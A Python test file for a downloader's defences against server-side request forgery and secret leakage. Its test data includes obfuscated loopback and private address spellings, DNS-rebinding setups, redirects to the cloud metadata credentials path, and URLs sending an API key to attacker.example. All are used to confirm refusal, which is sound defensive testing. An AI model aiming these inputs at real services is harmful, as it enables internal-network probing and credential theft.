"""Where a download may go: public addresses only (every spelling of a private one resolves to one, and is refused
before anything is sent), on the first address and every redirect; the connection goes to the address checked (no
second resolution), with TLS verified against the host's name; and a secret goes only to the hosts it is bound to."""

from __future__ import annotations

import dataclasses
import ipaddress
import socket
import ssl
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from fencepost.core.sources.bindings import DEFAULT_HOSTS
from fencepost.downloads import Credential, Fetcher, FetchError, FetchPolicy, Request
from fencepost.downloads.destinations import Address, refusal
from tests.publisher import Publisher, self_signed

BODY = b"10.0.0.0/24\n"
LOCAL = FetchPolicy(https_only=False, backoff=0.01, attempts=1, timeout=5, allow_loopback=True)
ON_AWS = FetchPolicy(https_only=False, backoff=0.01, attempts=1, timeout=5)  # the deployed default: no loopback


@pytest.fixture
def site() -> Iterator[Publisher]:
    with Publisher() as publisher:
        publisher.publish("/list.txt", BODY)
        yield publisher


class Names:
    """A resolver that answers from a table (and counts its questions), the system's for every other name."""

    def __init__(self, **table: list[str]) -> None:
        self.table = {name.replace("_", "."): answers for name, answers in table.items()}
        self.asked: list[str] = []

    def __call__(self, host: str, port: int) -> list[Address]:
        self.asked.append(host)
        if host not in self.table:
            return [(family, address) for family, _, _, _, address in socket.getaddrinfo(host, port)]
        answer = self.table[host][min(len(self.asked), len(self.table[host])) - 1]
        family = socket.AF_INET6 if ":" in answer else socket.AF_INET
        return [(family, (answer, port))]


@pytest.mark.parametrize(
    ("address", "kind"),
    [
        ("127.0.0.1", "loopback"),
        ("::1", "loopback"),
        ("::ffff:127.0.0.1", "loopback"),
        ("169.254.169.254", "link-local"),  # the instance metadata service
        ("fe80::1", "link-local"),
        ("10.0.0.1", "private"),
        ("192.168.1.1", "private"),
        ("172.16.0.1", "private"),
        ("fd00:ec2::254", "private"),  # unique-local: the metadata service over IPv6
        ("::ffff:10.0.0.1", "private"),
        ("64:ff9b::a9fe:a9fe", "link-local"),  # NAT64 of 169.254.169.254
        ("2002:a9fe:a9fe::", "link-local"),  # 6to4 of 169.254.169.254
        ("0.0.0.0", "unspecified"),
        ("::", "unspecified"),
        ("224.0.0.1", "multicast"),
        ("ff02::1", "multicast"),
        ("240.0.0.1", "private"),  # reserved (Python counts it private too)
        ("100.64.0.1", "non-global"),  # shared address space (carrier-grade NAT)
    ],
)
def test_every_kind_of_inside_address_is_refused(address: str, kind: str) -> None:
    assert refusal(ipaddress.ip_address(address)) == kind


@pytest.mark.parametrize("address", ["8.8.8.8", "2606:4700::1111", "::ffff:8.8.8.8", "2002:808:808::", "1.0.0.1"])
def test_public_addresses_are_allowed(address: str) -> None:
    assert refusal(ipaddress.ip_address(address)) is None


def test_loopback_only_where_the_setting_allows_it() -> None:
    assert refusal(ipaddress.ip_address("127.0.0.1"), allow_loopback=True) is None
    assert refusal(ipaddress.ip_address("::ffff:127.0.0.1"), allow_loopback=True) is None
    assert refusal(ipaddress.ip_address("10.0.0.1"), allow_loopback=True) == "private"
    assert refusal(ipaddress.ip_address("169.254.169.254"), allow_loopback=True) == "link-local"


@pytest.mark.parametrize(
    ("host", "kind"),
    [
        ("127.0.0.1", "loopback"),
        ("2130706433", "loopback"),  # 127.0.0.1 as one number
        ("0x7f.0.0.1", "loopback"),
        ("0177.0.0.1", "loopback"),
        ("127.1", "loopback"),
        ("localhost", "loopback"),
        ("[::1]", "loopback"),
        ("[::ffff:127.0.0.1]", "loopback"),
        ("169.254.169.254", "link-local"),
        ("10.0.0.1", "private"),
        ("[fd00:ec2::254]", "private"),
    ],
)
def test_a_source_pointing_inside_is_refused_before_anything_is_sent(
    site: Publisher, tmp_path: Path, host: str, kind: str
) -> None:
    port = site.server.server_address[1]
    started = time.monotonic()
    with pytest.raises(FetchError, match=rf"^list: .* is at [0-9a-f.:]+, a {kind} address: a source may only point"):
        Fetcher(ON_AWS).get(Request(url=f"http://{host}:{port}/list.txt", shown="list"), tmp_path)
    assert time.monotonic() - started < 1  # refused, not tried
    assert site.seen == []


@pytest.mark.parametrize(
    ("target", "kind"),
    [
        ("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "link-local"),
        ("http://[::ffff:169.254.169.254]/latest/meta-data/", "link-local"),
        ("http://10.0.0.1/", "private"),
        ("http://[fd00:ec2::254]/latest/api/token", "private"),
    ],
)
def test_every_redirect_is_checked_too(site: Publisher, tmp_path: Path, target: str, kind: str) -> None:
    site.publish("/moved", b"", redirect=target)
    started = time.monotonic()
    with pytest.raises(FetchError, match=rf"^moved \(redirected to http://.*\): .* a {kind} address"):
        Fetcher(LOCAL).get(Request(url=site.url("/moved"), shown="moved"), tmp_path)
    assert time.monotonic() - started < 1  # refused, not tried
    assert [seen.path for seen in site.seen] == ["/moved"]


def test_the_connection_goes_to_the_address_checked_not_to_a_second_answer(site: Publisher, tmp_path: Path) -> None:
    # A name that answers here first, somewhere inside the second time (DNS rebinding): resolved once, used once
    resolve = Names(rebind_test=["127.0.0.1", "10.255.255.1"])
    url = site.url("/list.txt", host="rebind.test")
    fetched = Fetcher(LOCAL, resolve=resolve).get(Request(url=url, shown="list"), tmp_path)
    assert fetched.path is not None
    assert fetched.path.read_bytes() == BODY
    assert resolve.asked == ["rebind.test"]
    assert site.requests("/list.txt")[0].headers["Host"] == f"rebind.test:{site.server.server_address[1]}"


def test_tls_to_a_checked_address_verifies_the_hosts_name_and_sends_it(tmp_path: Path) -> None:
    cert, key = self_signed(tmp_path)  # for localhost, publisher.test and 127.0.0.1; not other.test
    trusted = ssl.create_default_context(cafile=str(cert))
    resolve = Names(publisher_test=["127.0.0.1"], other_test=["127.0.0.1"])
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    with Publisher(tls=(cert, key)) as secure:
        secure.publish("/file", BODY)
        fetcher = Fetcher(FetchPolicy(attempts=1, allow_loopback=True), tls=trusted, resolve=resolve)
        fetched = fetcher.get(Request(url=secure.url("/file", host="publisher.test"), shown="file"), downloads)
        assert fetched.path is not None
        assert fetched.path.read_bytes() == BODY
        assert secure.sni == ["publisher.test"]
        with pytest.raises(FetchError, match=r"no answer \(SSLCertVerificationError\)"):
            fetcher.get(Request(url=secure.url("/file", host="other.test"), shown="file"), downloads)
        assert [seen.path for seen in secure.seen] == ["/file"]


def _key(hosts: frozenset[str], tagged: bool = True) -> Credential:
    return Credential("fencepost/maxmind", "K3Y-VALUE", hosts, tagged=tagged)


def test_a_secret_goes_nowhere_but_its_hosts(site: Publisher, tmp_path: Path) -> None:
    # The source: a bucket writer's address with the MaxMind key filled into it
    resolve = Names(attacker_example=["127.0.0.1"])
    url = site.url("/x?k=K3Y-VALUE", host="attacker.example")
    request = Request(url=url, shown="https://attacker.example/x?...", credentials=(_key(DEFAULT_HOSTS, False),))
    with pytest.raises(FetchError) as refused:
        Fetcher(LOCAL, resolve=resolve).get(request, tmp_path)
    assert str(refused.value) == (
        "https://attacker.example/x?...: secret 'fencepost/maxmind' may be sent only to download.maxmind.com (it has "
        "no fencepost:hosts tag: the presets' hosts), not to attacker.example: refused, nothing was sent"
    )
    assert "K3Y" not in str(refused.value)
    assert resolve.asked == []  # not even looked up
    assert site.seen == []


def test_basic_authentication_goes_nowhere_but_the_secrets_hosts(site: Publisher, tmp_path: Path) -> None:
    request = Request(url=site.url("/list.txt"), shown="list", auth=("42", "K3Y-VALUE"))
    elsewhere = dataclasses.replace(request, credentials=(_key(frozenset({"example.org"})),))
    with pytest.raises(FetchError, match=r"may be sent only to example\.org"):
        Fetcher(LOCAL).get(elsewhere, tmp_path)
    assert site.seen == []
    bound = dataclasses.replace(request, credentials=(_key(frozenset({"127.0.0.1"})),))
    assert Fetcher(LOCAL).get(bound, tmp_path).size == len(BODY)


def test_a_redirect_that_carries_the_secret_on_must_go_to_its_hosts(site: Publisher, tmp_path: Path) -> None:
    # The bound host redirects to another one with the key in the address: refused; without it: followed
    site.publish("/download", b"", redirect=site.url("/steal?key=K3Y-VALUE", host="localhost"))
    site.publish("/steal", BODY)
    site.publish("/signed", b"", redirect=site.url("/storage?signature=abc", host="localhost"))
    site.publish("/storage", BODY)
    key = _key(frozenset({"127.0.0.1"}))
    carried = Request(url=site.url("/download?key=K3Y-VALUE"), shown="dl", credentials=(key,))
    with pytest.raises(FetchError, match=r"^dl \(redirected to http://localhost:\d+/steal\?\.\.\.\): secret"):
        Fetcher(LOCAL).get(carried, tmp_path)
    assert site.requests("/steal") == []
    signed = Request(url=site.url("/signed?key=K3Y-VALUE"), shown="dl", credentials=(key,))
    assert Fetcher(LOCAL).get(signed, tmp_path).size == len(BODY)
